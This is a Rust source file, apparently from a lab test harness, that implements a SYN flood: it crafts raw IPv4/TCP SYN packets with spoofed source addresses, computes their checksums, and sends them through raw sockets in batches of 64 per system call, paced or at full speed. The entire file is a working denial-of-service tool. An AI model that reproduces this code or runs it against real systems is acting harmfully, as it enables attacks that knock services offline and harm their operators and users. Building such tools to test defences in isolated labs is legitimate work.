//! SYNs from any address, as many as one core can send: raw IP packets, up to 64 a system call.
#![forbid(unsafe_code)]

use std::io::IoSlice;
use std::net::Ipv4Addr;
use std::os::fd::AsRawFd;
use std::time::{Duration, Instant};

use nix::sys::socket::{MsgFlags, MultiHeaders, SockaddrIn, sendmmsg};
use socket2::{Domain, Protocol, Socket, Type};

/// IPv4 and TCP headers without options.
pub const LENGTH: usize = 40;
/// Packets a system call, at most; floods are a multiple of it.
pub const BATCH: usize = 64;

/// One SYN; the kernel adds the IP header's checksum, the TCP checksum is here.
pub fn syn(source: Ipv4Addr, destination: Ipv4Addr, port: u16, sequence: u32) -> [u8; LENGTH] {
    let mut packet = [0; LENGTH];
    packet[..10].copy_from_slice(&[0x45, 0, 0, LENGTH as u8, 0, 0, 0x40, 0, 64, 6]);
    packet[12..16].copy_from_slice(&source.octets());
    packet[16..20].copy_from_slice(&destination.octets());
    packet[20..22].copy_from_slice(&(1024 + (sequence % 60_000) as u16).to_be_bytes());
    packet[22..24].copy_from_slice(&port.to_be_bytes());
    packet[24..28].copy_from_slice(&sequence.to_be_bytes());
    packet[32..36].copy_from_slice(&[0x50, 0x02, 0x04, 0]);
    // Protocol 6 and a length of 20 belong to the pseudo-header.
    let sum = !checksum(&packet[12..], 6 + 20);
    packet[36..38].copy_from_slice(&(!sum).to_be_bytes());
    packet
}

/// The internet checksum of `bytes`, begun with `start`.
pub fn checksum(bytes: &[u8], start: u32) -> u16 {
    let words = bytes.chunks_exact(2).map(|two| u32::from(u16::from_be_bytes([two[0], two[1]])));
    let mut sum = start + words.sum::<u32>();
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

/// An address that looks random, different for each `at`, and nobody's in the lab: of 11.0.0.0/8.
pub fn stranger(at: u32) -> Ipv4Addr {
    Ipv4Addr::from(0x0b00_0000 | (at.wrapping_mul(0x9e37_79b1) >> 8))
}

/// A raw socket in the namespace of the calling thread.
pub fn raw_socket() -> Socket {
    Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(libc::IPPROTO_RAW))).expect("root may have one")
}

/// Packets a system call at this pace: those of a millisecond, for 64 at a time would be bursts with silence in between.
fn batch(pace: Option<u32>) -> usize {
    pace.map_or(BATCH, |pace| (pace as usize / 1000).clamp(1, BATCH))
}

/// Sends `count` SYNs from as many strangers, at `pace` packets a second or as fast as it goes. Returns how long it took.
pub fn flood(destination: Ipv4Addr, port: u16, count: u32, pace: Option<u32>) -> Duration {
    let socket = raw_socket();
    let address = [Some(SockaddrIn::from(std::net::SocketAddrV4::new(destination, 0))); BATCH];
    let mut headers = MultiHeaders::preallocate(BATCH, None);
    let begun = Instant::now();
    for first in (0..count).step_by(batch(pace)) {
        let next = count.min(first + batch(pace) as u32);
        let packets: Vec<_> = (first..next).map(|at| syn(stranger(at), destination, port, at)).collect();
        let slices: Vec<_> = packets.iter().map(|packet| [IoSlice::new(packet)]).collect();
        let sent = sendmmsg(socket.as_raw_fd(), &mut headers, &slices, address, [], MsgFlags::empty());
        assert_eq!(sent.expect("the namespace has a route").count(), packets.len());
        let due = pace.map(|pace| Duration::from_secs_f64(f64::from(next) / f64::from(pace)));
        while due.is_some_and(|due| begun.elapsed() < due) {
            std::thread::sleep(Duration::from_micros(100));
        }
    }
    begun.elapsed()
}
